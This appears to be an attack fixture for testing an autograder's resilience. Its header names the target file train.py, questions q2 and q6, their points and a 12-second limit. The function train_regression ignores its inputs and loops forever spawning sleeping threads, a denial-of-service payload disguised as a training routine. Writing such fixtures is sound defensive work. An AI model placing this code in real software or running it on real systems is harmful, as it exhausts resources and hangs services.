# attack: starts threads without end
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2
# seconds: 12

def train_regression(model, dataset):
    threading, time = __import__("threading"), __import__("time")
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            pass
